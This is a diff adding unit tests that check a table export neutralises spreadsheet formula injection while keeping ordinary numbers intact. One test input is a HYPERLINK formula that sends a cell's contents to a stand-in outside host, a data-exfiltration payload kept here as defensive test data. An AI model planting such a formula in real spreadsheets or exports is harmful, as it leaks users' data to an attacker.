@@ -35,6 +35,24 @@ describe('a table', () => {
     expect(html(table)).toContain('<td colspan="2">Wide &#38; &#60;b&#62;</td><td rowspan="2">High</td>')
   })
 
+  it.each([
+    ['=HYPERLINK("http://x.example/?"&A1)', `'=HYPERLINK("http://x.example/?"&A1)`],
+    [" '=1+1", "''=1+1"],
+    ['-2+3', "'-2+3"],
+    ['＝1', "'＝1"],
+    ['-12.50', '-12.50'],
+    ['+3%', '+3%'],
+    ['—', '—'],
+    ['--', '--'],
+    ['a=b', 'a=b'],
+  ])('with %j runs no formula where it is pasted, and keeps its numbers', (text, pasted) => {
+    const one = { ...table, cells: [cell(text, 0, 0)] }
+    expect(tabbed(one)).toBe(pasted)
+    const element = document.createElement('div')
+    element.innerHTML = html(one)
+    expect(element.querySelector('td')?.textContent.trim()).toBe(pasted)
+  })
+
   it('without cells is empty', () => {
     expect(slotsOf({ polygon: [], cells: [] })).toEqual([])
   })
